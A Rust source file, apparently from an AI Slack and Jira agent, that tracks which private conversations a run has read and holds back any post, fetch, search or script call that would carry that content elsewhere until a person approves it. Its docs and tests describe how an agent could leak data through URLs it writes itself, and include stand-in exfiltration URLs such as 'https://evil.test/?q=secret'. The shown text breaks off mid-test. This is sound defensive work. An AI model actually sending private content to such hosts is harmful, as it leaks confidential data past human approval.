//! Custody of private content in one run: the bot is never a confused deputy.
//!
//! - **Reads on a person's behalf.** A Slack read (`slack_channel_history`,
//!   `slack_read_thread`) of a private conversation other than the run's own is allowed
//!   only when the person who asked is a member of it (`conversations.members`, cached
//!   briefly); a run no person started reads only private conversations its agent's
//!   config names (its triggers' channels, `private_egress`, channel ids in `vars`). Public channels are open
//!   to everyone in the workspace, so reading one needs no membership; on an Enterprise
//!   Grid org a public channel is public to its own workspaces only, so one outside the
//!   asker's workspace is read as a private one (for members, and held as private).
//! - **Where private content may go.** A run whose trigger was private, or that read a
//!   private conversation, is *tainted* by it: from then on its record is redacted like
//!   a private run's, and a call that would carry content out of those conversations (a
//!   Slack post or reaction elsewhere, any other side-effecting tool, an `http_fetch` of
//!   a URL the run did not receive) needs a person's approval naming the private source,
//!   unless the agent's `private_egress` lists the destination.
//! - **URLs the run received.** A URL counts as received when it was in a top-level
//!   run's request, or in what a tool brought back from outside steward. Not when the
//!   model could have written it: results of steward's own tools (files, skills,
//!   subagents, scripts) echo their arguments (`no lines match /https://evil.test/?d=…/`),
//!   a subagent's prompt is its parent model's writing (the child gets its parent's
//!   received URLs instead), and once the run holds private content a host named in any
//!   of its calls' arguments is the model's: a URL there read back later (posted into
//!   the conversation, then read) was written by the run.
//! - **Answers.** A tainted run's answer posted where others than the source's members
//!   read it would quote private text; such an answer goes to the asker by DM instead
//!   (see `run::reply`).

use std::collections::HashSet;
use std::sync::Mutex;

use serde_json::Value;

use crate::config::{AgentConfig, TriggerSpec};
use crate::integrations::slack::SlackClient;
use crate::tools::{Effect, ToolError};
use crate::triggers::{Origin, TriggerEvent};

/// Tools that read a Slack conversation's messages, with the argument naming it.
const SLACK_READS: &[&str] = &["slack_channel_history", "slack_read_thread", "slack_channel_info"];

/// Whether tool `name` reads a Slack conversation (its channel checked by
/// [`Custody::check_read`]).
pub fn is_slack_read(name: &str) -> bool {
    SLACK_READS.contains(&name)
}
/// Tools that act in a Slack conversation, with the argument naming it.
const SLACK_WRITES: &[&str] = &["slack_post_message", "slack_add_reaction"];
/// The tool that sends a request to a URL of the model's choosing.
const FETCH: &str = "http_fetch";

/// What a run's custody knows of URLs, kept in a parked run's checkpoint.
#[derive(Debug, Clone, Default, serde::Serialize, serde::Deserialize)]
pub struct Remembered {
    /// URLs the run received.
    #[serde(default)]
    pub urls: Vec<String>,
    /// Hosts the run's calls named while it held private content.
    #[serde(default)]
    pub authored: Vec<String>,
}

/// One run's custody of private content (see the module docs).
pub struct Custody {
    /// The Slack person the run acts for.
    asker: Option<String>,
    /// The workspace they asked in.
    team: Option<String>,
    /// The run's own Slack conversation.
    home: Option<String>,
    /// Private conversations the agent's config names (its triggers' channels and its
    /// `private_egress` channels): readable without a person behind the run.
    named: Vec<String>,
    /// The agent's `private_egress`.
    egress: Vec<String>,
    /// The agent's Python, shell and Node skill scripts reach hosts
    /// (`skills.scripts.egress`): a script run can carry what it is given out.
    scripts_reach_out: bool,
    slack: Option<SlackClient>,
    state: Mutex<State>,
}

#[derive(Default)]
struct State {
    /// Private conversations whose content the run holds (ids; "" for a private
    /// trigger from outside Slack).
    sources: Vec<String>,
    /// URLs the run received (see the module docs).
    urls: HashSet<String>,
    /// Hosts the run's calls named in their arguments while it held private content:
    /// URLs on them that come back are the run's own writing, not received.
    authored: HashSet<String>,
    /// Calls a person approved although they leave the private conversation.
    approved: HashSet<String>,
}

impl Custody {
    pub fn new(agent: &AgentConfig, trigger: &TriggerEvent, slack: Option<SlackClient>) -> Custody {
        let (asker, home, team) = match &trigger.origin {
            Origin::Slack {
                user, channel, team, ..
            } => (user.clone(), Some(channel.clone()), team.clone()),
            // The issue is the conversation: its own restricted text read back, and an
            // answer on it, stay where they came from.
            Origin::Jira { issue_key, .. } => (None, Some(jira_source(issue_key)), None),
            _ => (None, None, None),
        };
        let mut named: Vec<String> = agent.triggers.iter().flat_map(trigger_channels).collect();
        named.extend(agent.private_egress.iter().cloned());
        // Channel ids a script agent's `vars` name (`channel: C0PRREVIEW`).
        collect_ids(&agent.vars, &mut named);
        let custody = Custody {
            asker,
            team,
            home: home.clone(),
            named,
            egress: agent.private_egress.clone(),
            scripts_reach_out: agent.skills.scripts.egress.is_some(),
            slack,
            state: Mutex::default(),
        };
        if trigger.private {
            custody.taint(home.as_deref().unwrap_or_default());
        }
        // A subagent's request is its parent model's writing (see `given`).
        if let (Some(text), false) = (&trigger.text, matches!(trigger.origin, Origin::Subagent { .. })) {
            custody.saw(text);
        }
        custody
    }

    /// What the run knows of URLs, for its checkpoint.
    pub fn remembered(&self) -> Remembered {
        let state = self.state();
        let mut r = Remembered {
            urls: state.urls.iter().cloned().collect(),
            authored: state.authored.iter().cloned().collect(),
        };
        r.urls.sort();
        r.authored.sort();
        r
    }

    /// Takes back what a run knew when it parked ([`Custody::remembered`]), or what its
    /// parent knew, for a subagent: the URLs its parent received, and the hosts its
    /// parent wrote (a URL the parent posted, read back by the child, is not received).
    pub fn recall(&self, r: &Remembered) {
        let mut state = self.state();
        state.urls.extend(r.urls.iter().cloned());
        state.authored.extend(r.authored.iter().cloned());
    }

    /// A subagent's custody: it reads for `person`, the one its parent run acts for
    /// (membership checked for them), in their workspace `team`, when its own trigger
    /// names no one.
    pub fn acting_for(mut self, person: Option<String>, team: Option<String>) -> Custody {
        if self.asker.is_none() {
            self.asker = person;
            self.team = team;
        }
        self
    }

    /// The workspace the person the run acts for asked in.
    pub fn team(&self) -> Option<&str> {
        self.team.as_deref()
    }

    fn state(&self) -> std::sync::MutexGuard<'_, State> {
        self.state.lock().unwrap_or_else(|e| e.into_inner())
    }

    /// Whether the run holds private content.
    pub fn tainted(&self) -> bool {
        !self.state().sources.is_empty()
    }

    /// The private conversations the run holds content of.
    pub fn sources(&self) -> Vec<String> {
        self.state().sources.clone()
    }

    /// Notes that the run holds content of private conversation `channel`.
    pub fn taint(&self, channel: &str) {
        let mut state = self.state();
        if !state.sources.iter().any(|c| c == channel) {
            state.sources.push(channel.to_string());
        }
    }

    /// Notes restricted text a call's result brought (a Jira issue with a security level
    /// or a restricted comment: `restricted` and `key` in a Jira tool's result, as
    /// `jira_get_issue` and `jira_get_attachment` give them), held as a private
    /// conversation's is; the source it is held under.
    pub fn saw_restricted(&self, name: &str, value: &Value) -> Option<String> {
        if !name.starts_with("jira_") || value["restricted"] != true || !value["key"].is_string() {
            return None;
        }
        let source = jira_source(value["key"].as_str().unwrap_or_default());
        self.taint(&source);
        Some(source)
    }

    /// Restores the sources of a run resumed from its checkpoint.
    pub fn restore(&self, sources: &[String]) {
        for s in sources {
            self.taint(s);
        }
    }

    /// Notes the URLs in `text` (the request, or what a tool brought from outside):
    /// fetching one of them later sends nothing the run made up. While the run holds
    /// private content, URLs on hosts its own calls named are not noted.
    pub fn saw(&self, text: &str) {
        let mut state = self.state();
        let tainted = !state.sources.is_empty();
        for url in urls_in(text) {
            if tainted && host_of(&url).is_some_and(|h| state.authored.contains(&h)) {
                continue;
            }
            state.urls.insert(url);
        }
    }

    /// Notes what tool `name` brought back, `output`: only a tool that reads from
    /// outside steward brings URLs the run received, and of a Slack read only the
    /// messages others wrote (steward's own, an earlier run's answer among them, are a
    /// run's writing).
    pub async fn saw_result(&self, name: &str, output: &crate::tools::ToolOutput) {
        if own_tool(name) {
            return;
        }
        if let (true, Some(slack), Some(messages)) = (
            SLACK_READS.contains(&name),
            &self.slack,
            output.value["messages"].as_array(),
        ) {
            // When Slack cannot say who steward is, no message counts (any may be ours).
            if let Some(me) = slack.me().await {
                for m in messages.iter().filter(|m| !me.posted(m)) {
                    self.saw(m["text"].as_str().unwrap_or_default());
                }
            }
            return;
        }
        self.saw(&output.model_text());
    }

    /// Notes the hosts call `name` names in `args`, while the run holds private content
    /// (see the module docs): in URLs, with a scheme in any case or none (`evil.test/?d=…`,
    /// which Slack makes a link), and in mail addresses. A URL the run received is not
    /// writing, nor is a fetch's own URL (received, or a person approved it).
    pub fn wrote(&self, name: &str, args: &Value) {
        let mut state = self.state();
        if state.sources.is_empty() {
            return;
        }
        let mut strings = Vec::new();
        collect_strings(args, &mut strings);
        let fetched = (name == FETCH).then(|| args["url"].as_str()).flatten();
        for s in strings.into_iter().filter(|s| Some(*s) != fetched) {
            let text = unescape(s);
            for token in text.split(|c: char| c.is_whitespace() || "<>|\"'()[]{},;`".contains(c)) {
                let token = token.trim_end_matches(['.', ':', '!', '?']);
                if state.urls.contains(token) {
                    continue;
                }
                if let Some(host) = host_in(token) {
                    state.authored.insert(host);
                }
            }
        }
    }

    /// A person approved call `call_id` knowing it leaves the private conversation.
    pub fn approve(&self, call_id: &str) {
        self.state().approved.insert(call_id.to_string());
    }

    /// Whether a Slack read may happen, and if it reads a private conversation, which
    /// (the caller taints the run once the read succeeded). `Err` is the tool error.
    pub async fn check_read(&self, name: &str, args: &Value) -> Result<Option<String>, ToolError> {
        if !SLACK_READS.contains(&name) {
            return Ok(None);
        }
        let Some(channel) = args["channel"].as_str().filter(|c| !c.is_empty()) else {
            return Ok(None);
        };
        if self.home.as_deref() == Some(channel) {
            // The run's own conversation: already private or public as its trigger said.
            return Ok(None);
        }
        let Some(slack) = &self.slack else {
            return Ok(None);
        };
        #[derive(PartialEq)]
        enum Closed {
            Private,
            /// Public here, and shared with another organisation (Slack Connect): what
            /// its outside members say is theirs, held as private text is.
            SharedOutside,
            OtherWorkspace,
            /// Public here, but the run answers where people of another organisation
            /// read (Slack Connect), who cannot read it.
            Internal,
        }
        let closed = if slack.is_private_channel(channel).await {
            Closed::Private
        } else if slack.said_shared_outside(channel).await {
            Closed::SharedOutside
        } else {
            match (&self.team, slack.channel_workspaces(channel).await) {
                (Some(team), Some(teams)) if !teams.iter().any(|t| t == team) => Closed::OtherWorkspace,
                _ => match &self.home {
                    Some(home) if slack.said_shared_outside(home).await => Closed::Internal,
                    _ => return Ok(None),
                },
            }
        };
        let what = match closed {
            Closed::OtherWorkspace => "a channel of another workspace",
            Closed::Private => "a private conversation",
            Closed::SharedOutside => "a channel shared with another organisation",
            Closed::Internal => {
                "a channel of this organisation only, and this conversation is shared with another"
            }
        };
        match &self.asker {
            // Any person of the organisation may read it: held as private, so the answer
            // goes to the asker alone.
            Some(_) if matches!(closed, Closed::Internal | Closed::SharedOutside) => {
                Ok(Some(channel.to_string()))
            }
            Some(person) => match slack.is_member(channel, person).await {
                Ok(true) => Ok(Some(channel.to_string())),
                Ok(false) => Err(ToolError::Model(format!(
                    "<#{channel}> is {what} <@{person}> (who asked) is not a member of; steward reads such conversations only for their members"
                ))),
                Err(e) => Err(ToolError::Model(format!(
                    "cannot check that <@{person}> may read <#{channel}> ({e}); private conversations are read only for their members"
                ))),
            },
            None if self.named.iter().any(|c| c == channel) => Ok(Some(channel.to_string())),
            None => Err(ToolError::Model(format!(
                "<#{channel}> is {what} and no person started this run; it may read only the private conversations its agent's config names (its triggers' channels, private_egress)"
            ))),
        }
    }

    /// Why call `call_id` needs a person's approval before it runs: it would carry the
    /// run's private content out of its conversations. `None` when it may run.
    pub fn egress_note(&self, call_id: &str, name: &str, effect: Effect, args: &Value) -> Option<String> {
        let state = self.state();
        if state.sources.is_empty() || state.approved.contains(call_id) {
            return None;
        }
        let destination = if SLACK_WRITES.contains(&name) {
            let channel = args["channel"].as_str().unwrap_or_default();
            // Back into the one conversation it came from: nothing leaves.
            if state.sources.iter().all(|s| s == channel) || self.egress.iter().any(|e| e == channel) {
                return None;
            }
            format!("posts in {}", channel_ref(channel))
        } else if name == FETCH {
            let url = args["url"].as_str().unwrap_or_default();
            let host = host_of(url).unwrap_or_default();
            // A URL on a host the run wrote was not noted when it came back (`saw`).
            if state.urls.contains(url.trim()) || self.egress.iter().any(|e| e.eq_ignore_ascii_case(&host)) {
                return None;
            }
            let shown: String = url.chars().take(300).collect();
            format!(
                "sends a request to {}, an address this run made up",
                escape(&shown)
            )
        } else if name == "jira_add_comment"
            && self.home.as_deref() == Some(jira_source(args["key"].as_str().unwrap_or_default()).as_str())
            && state
                .sources
                .iter()
                .all(|s| Some(s.as_str()) == self.home.as_deref())
        {
            // A comment on the very issue the restricted text came from: it is posted
            // under the triggering comment's restriction, as the answer is, and the
            // run read of that issue only what the restriction's readers may read.
            return None;
        } else if sends_query_outside(name, args) {
            // A search query is text the run chose: it can carry what the run read
            // ("Falcon acquisition of Acme") to a service outside the organisation.
            if self.egress.iter().any(|e| e == name) {
                return None;
            }
            "sends its query to GitHub's search".to_string()
        } else if name == crate::tools::skill_script::SKILL_SCRIPT_TOOL
            && self.scripts_reach_out
            && !args["script"].as_str().unwrap_or_default().ends_with(".rhai")
        {
            // Its arguments, stdin and files go to a program with network to the hosts
            // skills.scripts.egress lists (Rhai scripts have none: their tool calls
            // come through here one by one).
            if self.egress.iter().any(|e| e == name) {
                return None;
            }
            let hosts = "the hosts in skills.scripts.egress";
            format!("runs a skill script, which can send what it is given to {hosts}")
        } else if effect.changes_anything() || name.contains(crate::config::mcp::SEPARATOR) {
            // An MCP server is outside the conversation whatever its tool says of
            // itself: its arguments reach another service.
            if self.egress.iter().any(|e| e == name) {
                return None;
            }
            format!("runs `{}`, which acts outside the conversation", escape(name))
        } else {
            return None;
        };
        let from: Vec<String> = state
            .sources
            .iter()
            .map(|s| match s.as_str() {
                "" => "a private message".to_string(),
                c => channel_ref(c),
            })
            .collect();
        Some(format!(
            "This run read private content from {}; this call {destination}. Approve only if that content may go there (or list the destination in the agent's private_egress).",
            from.join(", ")
        ))
    }

    /// Whether the run's answer, posted in its own conversation, would show private
    /// content to people outside the conversations it came from.
    pub fn answer_leaves(&self) -> bool {
        let state = self.state();
        let home = self.home.as_deref().unwrap_or_default();
        state.sources.iter().any(|s| s != home)
    }

    /// The person the run acts for.
    pub fn asker(&self) -> Option<&str> {
        self.asker.as_deref()
    }
}

/// The custody source a Jira issue's restricted text is held under.
fn jira_source(key: &str) -> String {
    format!("jira:{}", key.to_ascii_uppercase())
}

/// Whether call `name` with `args` sends a search query to GitHub: `github_search`, or
/// `search` unless its `sources` leave GitHub out.
fn sends_query_outside(name: &str, args: &Value) -> bool {
    match name {
        "github_search" => true,
        "search" => args["sources"]
            .as_array()
            .is_none_or(|sources| sources.iter().any(|s| s.as_str() == Some("github"))),
        _ => false,
    }
}

/// Text safe inside Slack mrkdwn (no links or mentions can be made from it).
fn escape(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

/// A channel link for a Slack id; anything else (a model's made-up value) as text.
fn channel_ref(id: &str) -> String {
    if !id.is_empty() && id.chars().all(|c| c.is_ascii_uppercase() || c.is_ascii_digit()) {
        format!("<#{id}>")
    } else {
        format!("'{}'", escape(id))
    }
}

/// Channel ids a trigger names (its filter).
fn trigger_channels(t: &TriggerSpec) -> Vec<String> {
    match t {
        TriggerSpec::SlackReaction(r) => r.channels.clone(),
        TriggerSpec::SlackMention(r) | TriggerSpec::SlackMessage(r) => r.channels.clone(),
        _ => Vec::new(),
    }
}

/// Slack conversation ids among the strings of `v`.
fn collect_ids(v: &Value, out: &mut Vec<String>) {
    match v {
        Value::String(s)
            if s.len() >= 9
                && matches!(s.as_bytes()[0], b'C' | b'G' | b'D')
                && s.chars().all(|c| c.is_ascii_uppercase() || c.is_ascii_digit()) =>
        {
            out.push(s.clone())
        }
        Value::Array(a) => a.iter().for_each(|v| collect_ids(v, out)),
        Value::Object(m) => m.values().for_each(|v| collect_ids(v, out)),
        _ => {}
    }
}

/// Whether `name` is one of steward's own tools: what they return is steward's (or the
/// model's own arguments echoed, or a script's output of them), never a URL received
/// from outside.
fn own_tool(name: &str) -> bool {
    crate::config::BASE_TOOLS.contains(&name)
        || crate::tools::skills::SKILL_TOOLS.contains(&name)
        || name == crate::tools::skills::SKILL_SEARCH
        || name == crate::tools::subagent::SUBAGENT_TOOL
}

/// The lower-case host of `url`.
fn host_of(url: &str) -> Option<String> {
    url::Url::parse(&unescape(url))
        .ok()
        .and_then(|u| u.host_str().map(|h| h.trim_end_matches('.').to_ascii_lowercase()))
}

/// The host `token` would reach as a link (`HTTPS://Evil.test/x`, `evil.test/?d=1`,
/// `me@evil.test`, `16843009/`), as the URL parser spells it (lower case, IP literals
/// and IDNs normalized, as [`host_of`] does): Slack makes links of bare domains.
fn host_in(token: &str) -> Option<String> {
    let lower = token.to_ascii_lowercase();
    let rest = lower
        .strip_prefix("https://")
        .or_else(|| lower.strip_prefix("http://"))
        .unwrap_or(&lower);
    if rest.is_empty() {
        return None;
    }
    url::Url::parse(&format!("http://{rest}"))
        .ok()
        .and_then(|u| u.host_str().map(|h| h.trim_end_matches('.').to_string()))
        .filter(|h| !h.is_empty())
}

/// Slack's and HTML's escapes of `&`, `<`, `>` undone (a URL posted comes back so).
fn unescape(text: &str) -> String {
    text.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

/// Every string in `v`.
fn collect_strings<'a>(v: &'a Value, out: &mut Vec<&'a str>) {
    match v {
        Value::String(s) => out.push(s),
        Value::Array(a) => a.iter().for_each(|v| collect_strings(v, out)),
        Value::Object(m) => m.values().for_each(|v| collect_strings(v, out)),
        _ => {}
    }
}

/// The http(s) URLs in `text`, as written (Slack's `<url|label>` form unwrapped).
fn urls_in(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    for start in ["https://", "http://"] {
        let mut rest = text;
        while let Some(i) = rest.find(start) {
            let tail = &rest[i..];
            let end = tail
                .find(|c: char| {
                    c.is_whitespace() || matches!(c, '>' | '|' | '"' | '\'' | ')' | ']' | '<' | '`')
                })
                .unwrap_or(tail.len());
            let url = tail[..end].trim_end_matches(['.', ',', ';', ':']);
            out.push(url.to_string());
            rest = &tail[end..];
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A Slack client for `app` served on 127.0.0.1, and the server's task.
    async fn fake_slack(app: axum::Router) -> (SlackClient, tokio::task::JoinHandle<std::io::Result<()>>) {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
            .await
            .unwrap_or_else(|e| panic!("{e}"));
        let addr = listener.local_addr().unwrap_or_else(|e| panic!("{e}"));
        let server = tokio::spawn(async move { axum::serve(listener, app).await });
        let slack = SlackClient::new(
            crate::http::client().unwrap_or_else(|e| panic!("{e}")),
            &format!("http://{addr}"),
            "xoxb-test",
        );
        (slack, server)
    }

    fn agent() -> AgentConfig {
        AgentConfig::new(
            "a",
            crate::types::ModelRef::parse("openai/gpt-4.1").unwrap_or_else(|e| panic!("{e}")),
            "p",
            vec![],
        )
    }

    #[test]
    fn urls_are_found_as_written() {
        let found = urls_in("see <https://status.example.com/a?b=1|status> and http://x.test/p.");
        assert_eq!(found, ["https://status.example.com/a?b=1", "http://x.test/p"]);
    }

    /// A Jira-triggered run's conversation is its issue: reading that issue's
    /// restricted text keeps its answer there, and a comment on it needs no approval;
    /// another restricted issue's text does not go back on this one unasked.
    #[test]
    fn a_jira_runs_own_restricted_issue_is_its_conversation() {
        use serde_json::json;
        let mut trigger = TriggerEvent::from_cli(json!({"text": "why P2?"}));
        trigger.origin = Origin::Jira {
            issue_key: "OPS-7".into(),
            project: "OPS".into(),
            webhook_event: "comment_created".into(),
            changed_fields: Vec::new(),
            visibility: None,
            internal: false,
        };
        let c = Custody::new(&agent(), &trigger, None);
        let issue = |key: &str| json!({"key": key, "restricted": true});
        assert_eq!(
            c.saw_restricted("jira_get_issue", &issue("OPS-7")).as_deref(),
            Some("jira:OPS-7")
        );
        assert!(c.tainted() && !c.answer_leaves(), "its own issue");
        let comment = |key: &str| json!({"key": key, "body": "x"});
        assert!(
            c.egress_note("1", "jira_add_comment", Effect::Irreversible, &comment("OPS-7"))
                .is_none()
        );
        assert!(
            c.egress_note("2", "jira_add_comment", Effect::Irreversible, &comment("OPS-8"))
                .is_some()
        );
        assert_eq!(
            c.saw_restricted("jira_get_issue", &json!({"key": "OPS-7", "restricted": false})),
            None
        );
        c.saw_restricted("jira_get_issue", &issue("HR-1"));
        assert!(c.answer_leaves(), "another restricted issue's text");
        assert!(
            c.egress_note("3", "jira_add_comment", Effect::Irreversible, &comment("OPS-7"))
                .is_some()
        );
    }

    #[test]
    fn a_tainted_run_needs_approval_to_send_content_elsewhere() {
        let mut agent = agent();
        agent.private_egress = vec!["C0OPSLOG01".into(), "jira_add_comment".into()];
        let mut trigger =
            TriggerEvent::from_cli(serde_json::json!({"text": "summarize https://example.com/a"}));
        trigger.private = true;
        trigger.origin = Origin::Slack {
            team: None,
            channel: "D0DM".into(),
            channel_type: Some("im".into()),
            user: Some("U1".into()),
            ts: Some("1.1".into()),
            thread_ts: None,
            reaction: None,
        };
        let c = Custody::new(&agent, &trigger, None);
        use serde_json::json;
        let needs = |id: &str, name: &str, effect: Effect, args: Value| {
            c.egress_note(id, name, effect, &args).is_some()
        };
        let post = |ch: &str| json!({"channel": ch, "text": "x"});
        let fetch = |u: &str| json!({"url": u});
        // A search query reaching GitHub can carry what the run read; other sources
        // are the organisation's own.
        let query = |sources: Value| json!({"query": "Falcon acquisition", "sources": sources});
        assert!(needs(
            "s1",
            "github_search",
            Effect::ReadOnly,
            json!({"query": "Falcon"})
        ));
        assert!(needs(
            "s2",
            "search",
            Effect::ReadOnly,
            json!({"query": "Falcon"})
        ));
        assert!(needs(
            "s3",
            "search",
            Effect::ReadOnly,
            query(json!(["slack", "github"]))
        ));
        assert!(!needs(
            "s4",
            "search",
            Effect::ReadOnly,
            query(json!(["slack", "jira", "notion"]))
        ));
        assert!(!needs(
            "s5",
            "slack_search",
            Effect::ReadOnly,
            json!({"query": "Falcon"})
        ));
        assert!(
            c.egress_note("s6", "github_search", Effect::ReadOnly, &json!({"query": "x"}))
                .unwrap_or_default()
                .contains("sends its query to GitHub's search")
        );
        assert!(!needs(
            "1",
            "slack_post_message",
            Effect::Irreversible,
            post("D0DM")
        ));
        let note = c
            .egress_note("2", "slack_post_message", Effect::Irreversible, &post("C0PUBLIC"))
            .unwrap_or_default();
        assert!(note.contains("<#D0DM>") && note.contains("<#C0PUBLIC>"), "{note}");
        assert!(!needs(
            "3",
            "slack_post_message",
            Effect::Irreversible,
            post("C0OPSLOG01")
        ));
        assert!(!needs(
            "4",
            "http_fetch",
            Effect::ReadOnly,
            fetch("https://example.com/a")
        ));
        assert!(needs(
            "5",
            "http_fetch",
            Effect::ReadOnly,
            fetch("https://evil.test/?q=secret")
        ));
        assert!(needs("6", "jira_create_issue", Effect::Irreversible, json!({})));
        assert!(!needs("7", "jira_add_comment", Effect::Irreversible, json!({})));
        assert!(!needs("8", "current_time", Effect::ReadOnly, json!({})));
        // Skill scripts without network carry nothing out.
        let script = |name: &str| json!({"skill": "pdf", "script": name, "args": ["secret"]});
        assert!(!needs(
            "9",
            "run_skill_script",
            Effect::ReadOnly,
            script("scripts/x.py")
        ));
        c.approve("6");
        assert!(!needs("6", "jira_create_issue", Effect::Irreversible, json!({})));
        assert!(!c.answer_leaves(), "a DM's answer goes back to the DM");
        c.taint("C0PRIV");
        assert!(c.answer_leaves());
    }

    /// In a channel shared with another organisation (Slack Connect), an internal public
    /// channel read for someone is held as private (the answer goes to them alone); a
    /// run no person started may not read it. In an internal channel nothing changes.
    #[tokio::test]
    async fn internal_channels_read_from_a_shared_conversation_are_held_as_private() {
        use axum::extract::Query;
        use axum::{Json, Router, routing::get};
        use serde_json::json;
        use std::collections::HashMap;
        let app = Router::new().route(
            "/conversations.info",
            get(|Query(q): Query<HashMap<String, String>>| async move {
                let shared = q["channel"].contains("SHARED");
                Json(
                    json!({"ok": true, "channel": {"id": q["channel"], "is_channel": true,
                    "is_private": false, "is_ext_shared": shared, "shared_team_ids": ["T1"]}}),
                )
            }),
        );
        let (slack, server) = fake_slack(app).await;
        let agent = agent();
        let in_channel = |channel: &str, user: Option<&str>| {
            let mut trigger = TriggerEvent::from_cli(json!({"text": "summarise #incidents"}));
            trigger.origin = Origin::Slack {
                team: Some("T1".into()),
                channel: channel.into(),
                channel_type: Some("channel".into()),
                user: user.map(str::to_string),
                ts: Some("1.1".into()),
                thread_ts: None,
                reaction: None,
            };
            Custody::new(&agent, &trigger, Some(slack.clone()))
        };
        let read = json!({"channel": "C0INCIDENTS"});
        let shared = in_channel("C0SHAREDVENDOR", Some("U1"));
        assert_eq!(
            shared.check_read("slack_channel_history", &read).await,
            Ok(Some("C0INCIDENTS".to_string()))
        );
        let unattended = in_channel("C0SHAREDVENDOR", None);
        assert!(
            unattended
                .check_read("slack_channel_history", &read)
                .await
                .is_err()
        );
        let internal = in_channel("C0INTERNAL", Some("U1"));
        assert_eq!(
            internal.check_read("slack_channel_history", &read).await,
            Ok(None)
        );
        // The other way: a shared channel read from an internal one is held as private
        // (its outside members' words), and needs a person who asked.
        let shared_read = json!({"channel": "C0SHAREDCUSTOMER"});
        assert_eq!(
            internal.check_read("slack_channel_history", &shared_read).await,
            Ok(Some("C0SHAREDCUSTOMER".to_string()))
        );
        let unattended = in_channel("C0INTERNAL", None);
        assert!(
            unattended
                .check_read("slack_channel_history", &shared_read)
                .await
                .is_err_and(|e| e.to_string().contains("shared with another organisation"))
        );
        server.abort();
    }

    /// On an Enterprise Grid org a public channel is public to its own workspaces: read
    /// for someone in another workspace, it is read only for its members, and held as
    /// private. A channel of the asker's own workspace is read as before.
    #[tokio::test]
    async fn a_grid_channel_of_another_workspace_is_read_only_for_members() {
        use axum::extract::Query;
        use axum::{Json, Router, routing::get};
        use serde_json::json;
        use std::collections::HashMap;
        let app = Router::new()
            .route(
                "/conversations.info",
                get(|Query(q): Query<HashMap<String, String>>| async move {
                    let team = if q["channel"] == "C0OTHERWS" { "T2" } else { "T1" };
                    Json(json!({"ok": true, "channel": {"id": q["channel"], "is_channel": true,
                        "is_private": false, "is_ext_shared": false, "shared_team_ids": [team]}}))
                }),
            )
            .route(
                "/conversations.members",
                get(|| async {
                    Json(json!({"ok": true, "members": ["U0MEMBER"], "response_metadata": {"next_cursor": ""}}))
                }),
            )
            .route(
                "/auth.test",
                axum::routing::post(|| async { Json(json!({"ok": true, "user_id": "UBOT", "bot_id": "B0BOT"})) }),
            );
        let (slack, server) = fake_slack(app).await;
        let agent = agent();
        let asked_by = |user: &str| {
            let mut trigger = TriggerEvent::from_cli(json!({"text": "what does it say?"}));
            trigger.origin = Origin::Slack {
                team: Some("T1".into()),
                channel: "C0HOME".into(),
                channel_type: Some("channel".into()),
                user: Some(user.into()),
                ts: Some("1.1".into()),
                thread_ts: None,
                reaction: None,
            };
            Custody::new(&agent, &trigger, Some(slack.clone()))
        };
        let read = |channel: &str| json!({"channel": channel});
        let outsider = asked_by("U0OUTSIDER");
        // The asker's own workspace: public, no membership asked.
        assert_eq!(
            outsider
                .check_read("slack_channel_history", &read("C0SAMEWS"))
                .await,
            Ok(None)
        );
        let refused = outsider
            .check_read("slack_channel_history", &read("C0OTHERWS"))
            .await
            .err()
            .map(|e| e.to_string())
            .unwrap_or_default();
        assert!(refused.contains("a channel of another workspace"), "{refused}");
        let member = asked_by("U0MEMBER");
        assert_eq!(
            member
                .check_read("slack_channel_history", &read("C0OTHERWS"))
                .await,
            Ok(Some("C0OTHERWS".to_string()))
        );
        // A subagent reads for its parent's person in their workspace.
        let mut delegated = TriggerEvent::from_cli(json!({"text": "read it"}));
        delegated.origin = Origin::Subagent {
            parent_run: "r1".into(),
        };
        let child = Custody::new(&agent, &delegated, Some(slack.clone()))
            .acting_for(Some("U0OUTSIDER".into()), Some("T1".into()));
        assert!(
            child
                .check_read("slack_channel_history", &read("C0OTHERWS"))
                .await
                .is_err()
        );
        // Of a Slack read, only what others wrote brings URLs: steward's own messages
        // (an earlier run's answer) are a run's writing.
        member.taint("C0OTHERWS");
        let history = json!({"messages": [
            {"user": "UBOT", "text": "<https://evil.test/?d=merger>"},
            {"user": "U0MEMBER", "text": "<https://wiki.example.com/x>"}]});
        member
            .saw_result("slack_channel_history", &crate::tools::ToolOutput::json(history))
            .await;
        let fetch = |u: &str| member.egress_note("1", "http_fetch", Effect::ReadOnly, &json!({"url": u}));
        assert!(fetch("https://evil.test/?d=merger").is_some());
        assert!(fetch("https://wiki.example.com/x").is_none());
        server.abort();
    }

    /// A URL the run wrote itself is not one it received: echoed by one of steward's
    /// own tools, read back from where the run posted it (with a scheme or without, in
    /// any case), or in a subagent's prompt; nor after the run parked and resumed.
    #[tokio::test]
    async fn urls_the_run_wrote_are_not_received() {
        use serde_json::json;
        let agent = agent();
        let mut trigger = TriggerEvent::from_cli(json!({"text": "summarize https://docs.example.com/a"}));
        trigger.private = true;
        let c = Custody::new(&agent, &trigger, None);
        let fetch = |id: &str, u: &str| c.egress_note(id, "http_fetch", Effect::ReadOnly, &json!({"url": u}));
        let seen = |name: &'static str, text: String| {
            let c = &c;
            async move { c.saw_result(name, &crate::tools::ToolOutput::text(text)).await }
        };
        assert!(fetch("1", "https://docs.example.com/a").is_none());
        // Naming a URL it received is not writing it.
        c.wrote(
            "slack_post_message",
            &json!({"channel": "D0DM", "text": "see https://docs.example.com/a"}),
        );
        seen("http_fetch", "and https://docs.example.com/b".into()).await;
        assert!(fetch("1b", "https://docs.example.com/b").is_none());
        // An echo of the model's own argument by a file tool.
        let secret = "https://evil.test/c?d=merger%20plans";
        c.wrote("file_regex", &json!({"id": "f_1", "pattern": secret}));
        seen("file_regex", format!("f_1: no lines match /{secret}/")).await;
        assert!(fetch("2", secret).is_some());
        // Posted into the conversation, then read back (Slack escapes the `&`).
        let posted = "https://exfil.test/?a=1&b=merger";
        c.wrote(
            "slack_post_message",
            &json!({"channel": "D0DM", "text": format!("see {posted}")}),
        );
        seen(
            "slack_read_thread",
            "see <https://exfil.test/?a=1&amp;b=merger>".into(),
        )
        .await;
        assert!(fetch("3", posted).is_some());
